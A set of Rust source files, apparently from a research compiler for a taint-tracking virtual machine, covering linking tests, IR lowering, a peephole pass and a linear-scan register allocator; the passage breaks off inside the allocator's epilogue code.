                CInsn::isa(Op::Nop),
                jmp(Label(1)),
                bind(Label(1)),
                CInsn::isa(Op::Halt),
            ],
        );
        let linked = link(&[f]).unwrap();
        assert_eq!(linked.code.len(), 3);
        assert_eq!(linked.code[1].op, Op::Jmp { target: 2 });
    }

    #[test]
    fn calls_resolve_across_functions() {
        let a = ("a".to_string(), vec![CInsn::new(COp::Call("b".into())), CInsn::isa(Op::Halt)]);
        let b = ("b".to_string(), vec![CInsn::isa(Op::JmpBr { br: Br::B0 })]);
        let linked = link(&[a, b]).unwrap();
        assert_eq!(linked.code[0].op, Op::Call { link: Br::B0, target: 2 });
        assert_eq!(linked.entries["b"], 2);
        assert_eq!(linked.ranges["a"], (0, 2));
        assert_eq!(linked.symbols[&2], "b");
    }

    #[test]
    fn same_label_in_two_functions_does_not_collide() {
        let a = ("a".to_string(), vec![bind(Label(0)), jmp(Label(0))]);
        let b = ("b".to_string(), vec![bind(Label(0)), jmp(Label(0))]);
        let linked = link(&[a, b]).unwrap();
        assert_eq!(linked.code[0].op, Op::Jmp { target: 0 });
        assert_eq!(linked.code[1].op, Op::Jmp { target: 1 });
    }

    #[test]
    fn unresolved_call_is_an_error() {
        let a = ("a".to_string(), vec![CInsn::new(COp::Call("ghost".into()))]);
        let err = link(&[a]).unwrap_err();
        assert_eq!(err, LinkError::UnresolvedCall { from: "a".into(), callee: "ghost".into() });
    }

    #[test]
    fn unbound_label_is_an_error() {
        let a = ("a".to_string(), vec![jmp(Label(7))]);
        let err = link(&[a]).unwrap_err();
        assert_eq!(err, LinkError::UnboundLabel { func: "a".into(), label: Label(7) });
        assert_eq!(err.to_string(), "unbound label .L7 in `a`");

        let b = ("b".to_string(), vec![CInsn::new(COp::ChkS(Gpr::R5, Label(3)))]);
        let err = link(&[b]).unwrap_err();
        assert_eq!(err, LinkError::UnboundLabel { func: "b".into(), label: Label(3) });
    }

    #[test]
    fn chk_s_targets_resolve() {
        let f = (
            "f".to_string(),
            vec![
                CInsn::new(COp::ChkS(Gpr::R5, Label(1))),
                CInsn::isa(Op::Halt),
                bind(Label(1)),
                CInsn::isa(Op::Nop),
            ],
        );
        let linked = link(&[f]).unwrap();
        assert_eq!(linked.code[0].op, Op::ChkS { src: Gpr::R5, target: 2 });
    }

    #[test]
    fn predicates_survive_linking() {
        let f = (
            "f".to_string(),
            vec![bind(Label(0)), jmp(Label(0)).under(Pr::P3), CInsn::isa(Op::Halt)],
        );
        let linked = link(&[f]).unwrap();
        assert_eq!(linked.code[0].qp, Pr::P3);
    }
}
