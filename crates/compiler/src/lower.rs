//! Lowering: IR functions → virtual machine code.
//!
//! Parameters arrive in `r16..` and are copied into their virtual registers
//! at entry; calls marshal arguments the same way. Compare-and-branch
//! terminators become `cmp p1, p2 = …` plus predicated branches, with
//! fall-through branches elided when the target is the next block in layout
//! order. Returns jump to a single shared epilogue (attached after register
//! allocation, when the frame size is known).

use std::collections::HashMap;

use shift_ir::{Function, GlobalId, Inst, Rhs, Terminator, VReg};
use shift_isa::{AluOp, Gpr, Op, Pr};

use crate::vcode::{CInsn, COp, Label, LoweredFn, VR};

/// Predicate pair used by lowered application compares. Instrumentation owns
/// `p6`/`p7`, so application code sticks to `p1`/`p2`.
pub const APP_PT: Pr = Pr::P1;
/// See [`APP_PT`].
pub const APP_PF: Pr = Pr::P2;

/// Error produced while lowering.
#[derive(Clone, PartialEq, Eq, Debug)]
pub enum LowerError {
    /// The function references a global the layout pass never placed.
    NoGlobalAddress {
        /// The function containing the reference.
        func: String,
        /// The unplaced global.
        global: GlobalId,
    },
}

impl std::fmt::Display for LowerError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            LowerError::NoGlobalAddress { func, global } => {
                write!(f, "global {global} in `{func}` has no layout address")
            }
        }
    }
}

impl std::error::Error for LowerError {}

struct LowerCtx<'a> {
    func: &'a str,
    global_addrs: &'a HashMap<GlobalId, u64>,
    next_vreg: u32,
    out: Vec<CInsn<VR>>,
    guard: Label,
    uses_guard: bool,
}

impl LowerCtx<'_> {
    fn fresh(&mut self) -> VR {
        let v = VR::V(VReg(self.next_vreg));
        self.next_vreg += 1;
        v
    }

    fn push(&mut self, i: CInsn<VR>) {
        self.out.push(i);
    }

    fn isa(&mut self, op: Op<VR>) {
        self.push(CInsn::isa(op));
    }

    /// Materializes `addr + offset`, reusing `addr` when the offset is zero.
    fn with_offset(&mut self, addr: VR, offset: i64) -> VR {
        if offset == 0 {
            addr
        } else {
            let t = self.fresh();
            self.isa(Op::AluI { op: AluOp::Add, dst: t, src1: addr, imm: offset });
            t
        }
    }
}

/// Lowers one IR function.
///
/// `global_addrs` maps global ids to their final virtual addresses (the
/// compiler lays globals out before lowering).
///
/// # Errors
///
/// Returns [`LowerError`] when the function references a global missing
/// from `global_addrs`.
pub fn lower_fn(
    func: &Function,
    global_addrs: &HashMap<GlobalId, u64>,
) -> Result<LoweredFn, LowerError> {
    // Stack-slot layout: IR locals first, 8-aligned, at sp + [0, locals_size).
    let mut local_offs = Vec::with_capacity(func.locals.len());
    let mut cursor = 0u64;
    for local in &func.locals {
        local_offs.push(cursor);
        cursor += local.size.div_ceil(8) * 8;
    }
    let locals_size = cursor;

    let has_calls =
        func.blocks.iter().any(|b| b.insts.iter().any(|i| matches!(i, Inst::Call { .. })));
    let epilogue = Label(func.blocks.len() as u32);

    let mut blocks = Vec::with_capacity(func.blocks.len());
    let mut succs = Vec::with_capacity(func.blocks.len());
    let mut next_vreg = func.vregs;

    let guard = Label(func.blocks.len() as u32 + 1);
    let mut uses_guard = false;
    for (bi, block) in func.blocks.iter().enumerate() {
        let mut ctx = LowerCtx {
            func: &func.name,
            global_addrs,
            next_vreg,
            out: Vec::new(),
            guard,
            uses_guard: false,
        };

        if bi == 0 {
            // Copy incoming arguments out of the ABI registers.
            for p in 0..func.params {
                ctx.isa(Op::Mov { dst: VR::V(VReg(p as u32)), src: VR::P(Gpr::arg(p)) });
            }
        }

        for inst in &block.insts {
            lower_inst(&mut ctx, inst, &local_offs)?;
        }

        let term = block.term.as_ref().expect("validated IR has terminators");
        let next = bi + 1;
        match term {
            Terminator::Jmp(t) => {
                if t.index() != next {
                    ctx.push(CInsn::new(COp::Jmp(Label(t.0))));
                }
            }
            Terminator::Br { rel, a, rhs, then_bb, else_bb } => {
                let a = VR::V(*a);
                match rhs {
                    Rhs::Reg(b) => ctx.isa(Op::Cmp {
                        rel: *rel,
                        pt: APP_PT,
                        pf: APP_PF,
                        src1: a,
                        src2: VR::V(*b),
                        nat_aware: false,
                    }),
                    Rhs::Imm(imm) => ctx.isa(Op::CmpI {
                        rel: *rel,
                        pt: APP_PT,
                        pf: APP_PF,
                        src1: a,
                        imm: *imm,
                        nat_aware: false,
                    }),
                }
                if then_bb.index() == next {
                    ctx.push(CInsn::new(COp::Jmp(Label(else_bb.0))).under(APP_PF));
                } else if else_bb.index() == next {
                    ctx.push(CInsn::new(COp::Jmp(Label(then_bb.0))).under(APP_PT));
                } else {
                    ctx.push(CInsn::new(COp::Jmp(Label(then_bb.0))).under(APP_PT));
                    ctx.push(CInsn::new(COp::Jmp(Label(else_bb.0))));
                }
            }
            Terminator::Ret(v) => {
                if let Some(v) = v {
                    ctx.isa(Op::Mov { dst: VR::P(Gpr::RET), src: VR::V(*v) });
                }
                ctx.push(CInsn::new(COp::Jmp(epilogue)));
            }
        }

        next_vreg = ctx.next_vreg;
        uses_guard |= ctx.uses_guard;
        blocks.push(ctx.out);
        succs.push(func.blocks[bi].successors().iter().map(|b| b.index()).collect());
    }

    Ok(LoweredFn {
        name: func.name.clone(),
        blocks,
        succs,
        nvregs: next_vreg,
        locals_size,
        has_calls,
        uses_guard,
    })
}

fn lower_inst(ctx: &mut LowerCtx<'_>, inst: &Inst, local_offs: &[u64]) -> Result<(), LowerError> {
    match inst {
        Inst::Const { dst, value } => ctx.isa(Op::MovI { dst: VR::V(*dst), imm: *value }),
        Inst::Mov { dst, src } => ctx.isa(Op::Mov { dst: VR::V(*dst), src: VR::V(*src) }),
        Inst::Bin { op, dst, a, b } => {
            ctx.isa(Op::Alu { op: *op, dst: VR::V(*dst), src1: VR::V(*a), src2: VR::V(*b) })
        }
        Inst::BinI { op, dst, a, imm } => {
            ctx.isa(Op::AluI { op: *op, dst: VR::V(*dst), src1: VR::V(*a), imm: *imm })
        }
        Inst::SetCmp { rel, dst, a, rhs } => {
            match rhs {
                Rhs::Reg(b) => ctx.isa(Op::Cmp {
                    rel: *rel,
                    pt: APP_PT,
                    pf: APP_PF,
                    src1: VR::V(*a),
                    src2: VR::V(*b),
                    nat_aware: false,
                }),
                Rhs::Imm(imm) => ctx.isa(Op::CmpI {
                    rel: *rel,
                    pt: APP_PT,
                    pf: APP_PF,
                    src1: VR::V(*a),
                    imm: *imm,
                    nat_aware: false,
                }),
            }
            ctx.push(CInsn::isa(Op::MovI { dst: VR::V(*dst), imm: 1 }).under(APP_PT));
            ctx.push(CInsn::isa(Op::MovI { dst: VR::V(*dst), imm: 0 }).under(APP_PF));
        }
        Inst::Load { size, ext, dst, addr, offset } => {
            let a = ctx.with_offset(VR::V(*addr), *offset);
            ctx.isa(Op::Ld { size: *size, ext: *ext, dst: VR::V(*dst), addr: a, spec: false });
        }
        Inst::Store { size, src, addr, offset } => {
            let a = ctx.with_offset(VR::V(*addr), *offset);
            ctx.isa(Op::St { size: *size, src: VR::V(*src), addr: a });
        }
        Inst::Guard { src } => {
            // chk.s to the function's recovery stub, which raises a
            // user-level alert (§3.3.3).
            ctx.uses_guard = true;
            let guard = ctx.guard;
            ctx.push(
                CInsn::new(COp::ChkS(VR::V(*src), guard)).with_prov(shift_isa::Provenance::Check),
            );
        }
        Inst::Sanitize { dst, src } => {
            // Lowered as a value copy plus a `tclr` marker. The
            // instrumentation pass keeps the `tclr` under the set/clear
            // enhancement, expands it into a spill/plain-reload launder on
            // baseline hardware, and the uninstrumented baseline drops it.
            if dst != src {
                ctx.isa(Op::Mov { dst: VR::V(*dst), src: VR::V(*src) });
            }
            ctx.isa(Op::Tclr { dst: VR::V(*dst) });
        }
        Inst::LocalAddr { dst, local } => {
            ctx.isa(Op::AluI {
                op: AluOp::Add,
                dst: VR::V(*dst),
                src1: VR::P(Gpr::SP),
                imm: local_offs[local.index()] as i64,
            });
        }
        Inst::GlobalAddr { dst, global } => {
            let addr = *ctx.global_addrs.get(global).ok_or_else(|| {
                LowerError::NoGlobalAddress { func: ctx.func.to_string(), global: *global }
            })?;
            ctx.isa(Op::MovI { dst: VR::V(*dst), imm: addr as i64 });
        }
        Inst::Call { dst, callee, args } => {
            for (i, a) in args.iter().enumerate() {
                ctx.isa(Op::Mov { dst: VR::P(Gpr::arg(i)), src: VR::V(*a) });
            }
            ctx.push(CInsn::new(COp::Call(callee.clone())));
            if let Some(d) = dst {
                ctx.isa(Op::Mov { dst: VR::V(*d), src: VR::P(Gpr::RET) });
            }
        }
        Inst::Syscall { dst, num, args } => {
            for (i, a) in args.iter().enumerate() {
                ctx.isa(Op::Mov { dst: VR::P(Gpr::arg(i)), src: VR::V(*a) });
            }
            ctx.isa(Op::Syscall { num: *num });
            if let Some(d) = dst {
                ctx.isa(Op::Mov { dst: VR::V(*d), src: VR::P(Gpr::RET) });
            }
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use shift_ir::ProgramBuilder;
    use shift_isa::CmpRel;

    fn lower_named(name: &str, build: impl FnOnce(&mut shift_ir::FnBuilder)) -> LoweredFn {
        let mut pb = ProgramBuilder::new();
        pb.func(name, 0, build);
        let p = pb.build().unwrap();
        lower_fn(p.func(name).unwrap(), &HashMap::new()).unwrap()
    }

    #[test]
    fn ret_routes_through_epilogue() {
        let f = lower_named("f", |f| {
            let v = f.iconst(3);
            f.ret(Some(v));
        });
        let last = f.blocks[0].last().unwrap();
        assert_eq!(last.op, COp::Jmp(epilabel(&f)));
        // r8 is set right before.
        let before = &f.blocks[0][f.blocks[0].len() - 2];
        assert!(matches!(before.op, COp::Isa(Op::Mov { dst: VR::P(Gpr::R8), .. })));
    }

    fn epilabel(f: &LoweredFn) -> Label {
        crate::vcode::epilogue_label(f)
    }

    #[test]
    fn branch_fallthrough_elided() {
        let f = lower_named("f", |f| {
            let x = f.iconst(1);
            f.if_cmp(CmpRel::Eq, x, Rhs::Imm(1), |f| {
                let y = f.iconst(2);
                f.ret(Some(y));
            });
            f.ret(None);
        });
        // Entry block ends with cmp + a single predicated jump (then-block is
        // next in layout, so the taken path falls through under (p2)).
        let entry = &f.blocks[0];
        let jumps: Vec<_> = entry.iter().filter(|i| matches!(i.op, COp::Jmp(_))).collect();
        assert_eq!(jumps.len(), 1, "one fall-through branch expected:\n{entry:#?}");
        assert_eq!(jumps[0].qp, APP_PF);
    }

    #[test]
    fn call_marshals_args() {
        let mut pb = ProgramBuilder::new();
        pb.func("callee", 2, |f| f.ret(None));
        pb.func("main", 0, |f| {
            let a = f.iconst(1);
            let b = f.iconst(2);
            let r = f.call("callee", &[a, b]);
            f.ret(Some(r));
        });
        let p = pb.build().unwrap();
        let f = lower_fn(p.func("main").unwrap(), &HashMap::new()).unwrap();
        let code = &f.blocks[0];
        let call_pos = code.iter().position(|i| matches!(i.op, COp::Call(_))).unwrap();
        assert!(matches!(code[call_pos - 1].op, COp::Isa(Op::Mov { dst: VR::P(Gpr::R17), .. })));
        assert!(matches!(code[call_pos - 2].op, COp::Isa(Op::Mov { dst: VR::P(Gpr::R16), .. })));
        assert!(matches!(code[call_pos + 1].op, COp::Isa(Op::Mov { src: VR::P(Gpr::R8), .. })));
        assert!(f.has_calls);
    }

    #[test]
    fn locals_are_sp_relative_and_aligned() {
        let f = lower_named("f", |f| {
            let a = f.local(3); // rounds to 8
            let b = f.local(8);
            let pa = f.local_addr(a);
            let pb_ = f.local_addr(b);
            let d = f.sub(pb_, pa);
            f.ret(Some(d));
        });
        assert_eq!(f.locals_size, 16);
        let offs: Vec<i64> = f.blocks[0]
            .iter()
            .filter_map(|i| match i.op {
                COp::Isa(Op::AluI { src1: VR::P(Gpr::R12), imm, .. }) => Some(imm),
                _ => None,
            })
            .collect();
        assert_eq!(offs, vec![0, 8]);
    }

    #[test]
    fn missing_global_address_is_an_error() {
        let mut pb = ProgramBuilder::new();
        let g = pb.global_str("greeting", "hi");
        pb.func("f", 0, |f| {
            let p = f.global_addr(g);
            f.ret(Some(p));
        });
        let p = pb.build().unwrap();
        // An empty layout map models the compiler bug the error guards
        // against: lowering a global the layout pass never placed.
        let err = lower_fn(p.func("f").unwrap(), &HashMap::new()).unwrap_err();
        assert_eq!(err, LowerError::NoGlobalAddress { func: "f".into(), global: g });
        assert_eq!(err.to_string(), "global g0 in `f` has no layout address");
    }

    #[test]
    fn params_copied_from_abi_registers() {
        let mut pb = ProgramBuilder::new();
        pb.func("f", 2, |f| {
            let a = f.param(0);
            let b = f.param(1);
            let s = f.add(a, b);
            f.ret(Some(s));
        });
        let p = pb.build().unwrap();
        let f = lower_fn(p.func("f").unwrap(), &HashMap::new()).unwrap();
        assert!(matches!(
            f.blocks[0][0].op,
            COp::Isa(Op::Mov { dst: VR::V(VReg(0)), src: VR::P(Gpr::R16) })
        ));
        assert!(matches!(
            f.blocks[0][1].op,
            COp::Isa(Op::Mov { dst: VR::V(VReg(1)), src: VR::P(Gpr::R17) })
        ));
    }
}
