//! Post-instrumentation peephole cleanup.
//!
//! Two safe, local rewrites on allocated code:
//!
//! * **self-move elimination** — `mov rX = rX` does nothing (value and NaT
//!   bit both preserved trivially); lowering produces these when the
//!   register allocator assigns a `Mov`'s source and destination to the same
//!   physical register (common for argument marshalling);
//! * **jump-to-next elimination** — an unconditional branch whose target
//!   label binds immediately after it (possibly through other labels) is a
//!   fall-through; lowering's single-epilogue scheme produces these at the
//!   last return site of straight-line functions.
//!
//! Both apply to every compilation mode, so baselines and instrumented
//! builds benefit equally and slowdown ratios stay honest.

use shift_isa::{Gpr, Op, Pr};

use crate::vcode::{CInsn, COp, Label};

/// Statistics from one peephole run.
#[derive(Clone, Copy, PartialEq, Eq, Debug, Default)]
pub struct PeepholeStats {
    /// `mov rX = rX` instructions removed.
    pub self_moves: usize,
    /// Unconditional jumps to the immediately following label removed.
    pub fallthrough_jumps: usize,
}

/// Runs the peephole pass over one function's code.
pub fn peephole(code: Vec<CInsn<Gpr>>) -> (Vec<CInsn<Gpr>>, PeepholeStats) {
    let mut stats = PeepholeStats::default();
    let mut out: Vec<CInsn<Gpr>> = Vec::with_capacity(code.len());

    for (i, insn) in code.iter().enumerate() {
        // Self-moves: value and tag are preserved by doing nothing.
        if let COp::Isa(Op::Mov { dst, src }) = &insn.op {
            if dst == src {
                stats.self_moves += 1;
                continue;
            }
        }
        // Unconditional jump to a label that binds before the next real
        // instruction.
        if insn.qp == Pr::P0 {
            if let COp::Jmp(target) = &insn.op {
                if falls_through(&code[i + 1..], *target) {
                    stats.fallthrough_jumps += 1;
                    continue;
                }
            }
        }
        out.push(insn.clone());
    }
    (out, stats)
}

/// Does `label` bind before any code-emitting instruction in `rest`?
fn falls_through(rest: &[CInsn<Gpr>], label: Label) -> bool {
    for insn in rest {
        match &insn.op {
            COp::Bind(l) if *l == label => return true,
            COp::Bind(_) => continue,
            _ => return false,
        }
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;
    use shift_isa::AluOp;

    fn mov(dst: Gpr, src: Gpr) -> CInsn<Gpr> {
        CInsn::isa(Op::Mov { dst, src })
    }

    #[test]
    fn removes_self_moves_only() {
        let code = vec![mov(Gpr::R3, Gpr::R3), mov(Gpr::R3, Gpr::R4), mov(Gpr::R5, Gpr::R5)];
        let (out, stats) = peephole(code);
        assert_eq!(stats.self_moves, 2);
        assert_eq!(out.len(), 1);
        assert!(matches!(out[0].op, COp::Isa(Op::Mov { dst: Gpr::R3, src: Gpr::R4 })));
    }

    #[test]
    fn removes_jump_to_next_label() {
        let code = vec![
            CInsn::new(COp::Jmp(Label(2))),
            CInsn::new(COp::Bind(Label(1))),
            CInsn::new(COp::Bind(Label(2))),
            CInsn::isa(Op::Halt),
        ];
        let (out, stats) = peephole(code);
        assert_eq!(stats.fallthrough_jumps, 1);
        assert_eq!(out.len(), 3);
    }

    #[test]
    fn keeps_real_jumps_and_predicated_jumps() {
        let code = vec![
            // Taken jump over an instruction: must stay.
            CInsn::new(COp::Jmp(Label(9))),
            CInsn::isa(Op::AluI { op: AluOp::Add, dst: Gpr::R1, src1: Gpr::R1, imm: 1 }),
            CInsn::new(COp::Bind(Label(9))),
            // Predicated jump to next: must stay (it may be the not-taken
            // leg of a conditional, and removing it changes semantics only
            // if the predicate analysis is wrong — don't risk it).
            CInsn::new(COp::Jmp(Label(10))).under(Pr::P1),
            CInsn::new(COp::Bind(Label(10))),
        ];
        let expect = code.len();
        let (out, stats) = peephole(code);
        assert_eq!(stats.fallthrough_jumps, 0);
        assert_eq!(out.len(), expect);
    }

    #[test]
    fn glue_self_moves_also_removed() {
        let code = vec![mov(Gpr::R8, Gpr::R8).glued()];
        let (out, stats) = peephole(code);
        assert_eq!(stats.self_moves, 1);
        assert!(out.is_empty());
    }
}
