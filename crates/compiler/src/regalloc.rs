//! Liveness analysis and linear-scan register allocation.
//!
//! The pool is `r1–r11, r13–r15` (14 registers). `r16–r23`/`r8` are ABI
//! registers used only in marshalling moves emitted by lowering, `r24–r27`
//! are reserved for spill glue and `b0` save/restore, and `r28–r31` belong to
//! the SHIFT instrumentation pass (the paper reserves scratch inside GCC's
//! post-allocation phase the same way).
//!
//! All allocatable registers are caller-saved: any live range that crosses a
//! call is assigned a stack slot instead of a register. Spill traffic uses
//! `st8.spill`/`ld8.fill`, so spilling a *tainted* value round-trips its NaT
//! bit through the banked spill bits — the property that makes SHIFT's
//! register-taint tracking survive register pressure (§4.1's discussion of
//! `UNAT`).

use std::collections::{HashMap, HashSet};

use shift_ir::VReg;
use shift_isa::{AluOp, Br, Gpr, MemSize, Op, Pr};

use crate::vcode::{epilogue_label, guard_label, CInsn, COp, LoweredFn, VR};

/// The register pool handed out by the allocator, in preferred order.
/// `r12` (sp), `r16–r23`/`r8` (ABI), `r24–r27` (glue) and `r28–r31`
/// (instrumentation) are excluded.
fn pool() -> Vec<Gpr> {
    vec![
        Gpr::R15,
        Gpr::R14,
        Gpr::R13,
        Gpr::R11,
        Gpr::R10,
        Gpr::R9,
        Gpr::R7,
        Gpr::R6,
        Gpr::R5,
        Gpr::R4,
        Gpr::R3,
        Gpr::R2,
        Gpr::R1,
    ]
}

/// Address temporary for spill-slot access.
pub const ADDR_TMP: Gpr = Gpr::R24;
/// First reload temporary for spilled operands (also `b0` save shuttle).
pub const USE_TMP0: Gpr = Gpr::R25;
/// Second reload temporary for spilled operands.
pub const USE_TMP1: Gpr = Gpr::R26;
/// Definition temporary for spilled results.
pub const DEF_TMP: Gpr = Gpr::R27;

/// An allocated function: physical code, flattened with `Bind` markers,
/// prologue and epilogue attached.
#[derive(Clone, Debug)]
pub struct AllocatedFn {
    /// Function name.
    pub name: String,
    /// Flat physical code.
    pub code: Vec<CInsn<Gpr>>,
    /// Final frame size in bytes (16-aligned).
    pub frame_size: u64,
    /// Number of virtual registers spilled to the frame.
    pub spill_count: usize,
}

/// Allocates registers for a lowered function and attaches the frame.
pub fn allocate(f: &LoweredFn) -> AllocatedFn {
    // ---- position numbering -------------------------------------------
    let mut pos = 0usize;
    let mut block_range = Vec::with_capacity(f.blocks.len());
    let mut call_positions = Vec::new();
    for block in &f.blocks {
        let start = pos;
        for insn in block {
            if matches!(insn.op, COp::Call(_)) {
                call_positions.push(pos);
            }
            pos += 1;
        }
        block_range.push((start, pos.max(start + 1) - 1));
    }

    // ---- per-block gen/kill -------------------------------------------
    let nblocks = f.blocks.len();
    let mut gen: Vec<HashSet<VReg>> = vec![HashSet::new(); nblocks];
    let mut kill: Vec<HashSet<VReg>> = vec![HashSet::new(); nblocks];
    for (b, block) in f.blocks.iter().enumerate() {
        let mut defined: HashSet<VReg> = HashSet::new();
        for insn in block {
            for u in insn.uses() {
                if let VR::V(v) = u {
                    if !defined.contains(&v) {
                        gen[b].insert(v);
                    }
                }
            }
            if let Some(VR::V(v)) = insn.def() {
                // Predicated definitions may leave the old value visible, so
                // they do not kill liveness.
                if insn.qp == Pr::P0 {
                    defined.insert(v);
                    kill[b].insert(v);
                }
            }
        }
    }

    // ---- iterative liveness -------------------------------------------
    let mut live_in: Vec<HashSet<VReg>> = vec![HashSet::new(); nblocks];
    let mut live_out: Vec<HashSet<VReg>> = vec![HashSet::new(); nblocks];
    let mut changed = true;
    while changed {
        changed = false;
        for b in (0..nblocks).rev() {
            let mut out = HashSet::new();
            for &s in &f.succs[b] {
                out.extend(live_in[s].iter().copied());
            }
            let mut inn: HashSet<VReg> = out.difference(&kill[b]).copied().collect();
            inn.extend(gen[b].iter().copied());
            if inn != live_in[b] || out != live_out[b] {
                changed = true;
                live_in[b] = inn;
                live_out[b] = out;
            }
        }
    }

    // ---- intervals ------------------------------------------------------
    let mut ivs: HashMap<VReg, (usize, usize)> = HashMap::new();
    let extend = |ivs: &mut HashMap<VReg, (usize, usize)>, v: VReg, p: usize| {
        let e = ivs.entry(v).or_insert((p, p));
        e.0 = e.0.min(p);
        e.1 = e.1.max(p);
    };
    let mut pos = 0usize;
    for (b, block) in f.blocks.iter().enumerate() {
        let (bs, be) = block_range[b];
        for &v in &live_in[b] {
            extend(&mut ivs, v, bs);
        }
        for &v in &live_out[b] {
            extend(&mut ivs, v, be);
        }
        for insn in block {
            for u in insn.uses() {
                if let VR::V(v) = u {
                    extend(&mut ivs, v, pos);
                }
            }
            if let Some(VR::V(v)) = insn.def() {
                extend(&mut ivs, v, pos);
            }
            pos += 1;
        }
    }

    // ---- linear scan ----------------------------------------------------
    let mut intervals: Vec<(VReg, usize, usize)> =
        ivs.iter().map(|(&v, &(s, e))| (v, s, e)).collect();
    intervals.sort_by_key(|&(v, s, _)| (s, v));

    let mut assignment: HashMap<VReg, Gpr> = HashMap::new();
    let mut slots: HashMap<VReg, usize> = HashMap::new();
    let mut next_slot = 0usize;
    let alloc_slot = |slots: &mut HashMap<VReg, usize>, v: VReg, next: &mut usize| {
        slots.insert(v, *next);
        *next += 1;
    };

    let mut free = pool();
    // (end, vreg, reg), kept sorted by end ascending.
    let mut active: Vec<(usize, VReg, Gpr)> = Vec::new();

    for &(v, s, e) in &intervals {
        // Expire finished intervals.
        let mut i = 0;
        while i < active.len() {
            if active[i].0 < s {
                free.push(active[i].2);
                active.remove(i);
            } else {
                i += 1;
            }
        }
        // Call-crossing values live in the frame (all regs are caller-saved).
        if call_positions.iter().any(|&c| s < c && c < e) {
            alloc_slot(&mut slots, v, &mut next_slot);
            continue;
        }
        if let Some(r) = free.pop() {
            assignment.insert(v, r);
            active.push((e, v, r));
            active.sort_unstable_by_key(|a| a.0);
        } else if let Some(last) = active.last().copied() {
            if last.0 > e {
                // Steal from the interval that ends furthest away.
                assignment.remove(&last.1);
                alloc_slot(&mut slots, last.1, &mut next_slot);
                active.pop();
                assignment.insert(v, last.2);
                active.push((e, v, last.2));
                active.sort_unstable_by_key(|a| a.0);
            } else {
                alloc_slot(&mut slots, v, &mut next_slot);
            }
        } else {
            alloc_slot(&mut slots, v, &mut next_slot);
        }
    }

    // ---- frame layout ---------------------------------------------------
    let spill_base = f.locals_size;
    let b0_off = spill_base + 8 * next_slot as u64;
    let raw = b0_off + if f.has_calls { 8 } else { 0 };
    let frame_size = raw.div_ceil(16) * 16;
    let slot_off = |slot: usize| (spill_base + 8 * slot as u64) as i64;

    // ---- rewrite ----------------------------------------------------------
    let mut code: Vec<CInsn<Gpr>> = Vec::new();

    // Prologue.
    if frame_size > 0 {
        code.push(
            CInsn::isa(Op::AluI {
                op: AluOp::Add,
                dst: Gpr::SP,
                src1: Gpr::SP,
                imm: -(frame_size as i64),
            })
            .glued(),
        );
    }
    if f.has_calls {
        code.push(CInsn::isa(Op::MovFromBr { dst: USE_TMP0, br: Br::B0 }).glued());
        code.push(
            CInsn::isa(Op::AluI {
                op: AluOp::Add,
                dst: ADDR_TMP,
                src1: Gpr::SP,
                imm: b0_off as i64,
            })
            .glued(),
        );
        code.push(CInsn::isa(Op::St { size: MemSize::B8, src: USE_TMP0, addr: ADDR_TMP }).glued());
    }

    let map_reg = |vr: VR, use_tmps: &mut Vec<Gpr>, spilled_uses: &mut Vec<(Gpr, usize)>| -> Gpr {
        match vr {
            VR::P(g) => g,
            VR::V(v) => {
                if let Some(&r) = assignment.get(&v) {
                    r
                } else {
                    let slot = slots[&v];
                    // Reuse a tmp if this vreg already got one this insn.
                    if let Some(&(t, _)) = spilled_uses.iter().find(|&&(_, s)| s == slot) {
                        t
                    } else {
                        let t = use_tmps.pop().expect("at most two spilled uses per insn");
                        spilled_uses.push((t, slot));
                        t
                    }
                }
            }
        }
    };

    let epi = epilogue_label(f);
    for (b, block) in f.blocks.iter().enumerate() {
        code.push(CInsn::new(COp::Bind(crate::vcode::Label(b as u32))));
        for insn in block {
            let mut use_tmps = vec![USE_TMP1, USE_TMP0];
            let mut spilled_uses: Vec<(Gpr, usize)> = Vec::new();
            let mut def_spill: Option<usize> = None;

            // Map the operation register by register.
            let op: COp<Gpr> = match &insn.op {
                COp::Bind(l) => COp::Bind(*l),
                COp::Jmp(l) => COp::Jmp(*l),
                COp::Call(n) => COp::Call(n.clone()),
                COp::ChkS(r, l) => {
                    COp::ChkS(map_reg(*r, &mut use_tmps, &mut spilled_uses), l.to_owned())
                }
                COp::Isa(op) => COp::Isa(map_op(op, |vr, is_def| {
                    if is_def {
                        match vr {
                            VR::P(g) => g,
                            VR::V(v) => {
                                if let Some(&r) = assignment.get(&v) {
                                    r
                                } else {
                                    def_spill = Some(slots[&v]);
                                    DEF_TMP
                                }
                            }
                        }
                    } else {
                        map_reg(vr, &mut use_tmps, &mut spilled_uses)
                    }
                })),
            };

            // Reloads before the instruction.
            for &(tmp, slot) in &spilled_uses {
                code.push(
                    CInsn::isa(Op::AluI {
                        op: AluOp::Add,
                        dst: ADDR_TMP,
                        src1: Gpr::SP,
                        imm: slot_off(slot),
                    })
                    .glued(),
                );
                code.push(CInsn::isa(Op::LdFill { dst: tmp, addr: ADDR_TMP }).glued());
            }

            code.push(CInsn { qp: insn.qp, op, prov: insn.prov, glue: insn.glue });

            // Spill store after the instruction (same predicate).
            if let Some(slot) = def_spill {
                code.push(
                    CInsn::isa(Op::AluI {
                        op: AluOp::Add,
                        dst: ADDR_TMP,
                        src1: Gpr::SP,
                        imm: slot_off(slot),
                    })
                    .glued(),
                );
                code.push(
                    CInsn::isa(Op::StSpill { src: DEF_TMP, addr: ADDR_TMP }).under(insn.qp).glued(),
                );
            }
        }
    }

    // Drop a trailing unconditional jump straight into the epilogue.
    if let Some(last) = code.last() {
        if last.qp == Pr::P0 && last.op == COp::Jmp(epi) {
            code.pop();
        }
    }

    // Epilogue.
    code.push(CInsn::new(COp::Bind(epi)));
    if f.has_calls {
        code.push(
            CInsn::isa(Op::AluI {
                op: AluOp::Add,
                dst: ADDR_TMP,
                src1: Gpr::SP,
                imm: b0_off as i64,
            })
            .glued(),
        );
        code.push(
            CInsn::isa(Op::Ld {
                size: MemSize::B8,
                ext: shift_isa::ExtKind::Zero,
                dst: USE_TMP0,
                addr: ADDR_TMP,
                spec: false,
            })
            .glued(),
        );
        code.push(CInsn::isa(Op::MovToBr { br: Br::B0, src: USE_TMP0 }).glued());
    }
    if frame_size > 0 {
        code.push(
            CInsn::isa(Op::AluI {
                op: AluOp::Add,
                dst: Gpr::SP,
                src1: Gpr::SP,
                imm: frame_size as i64,
            })
            .glued(),
        );
    }
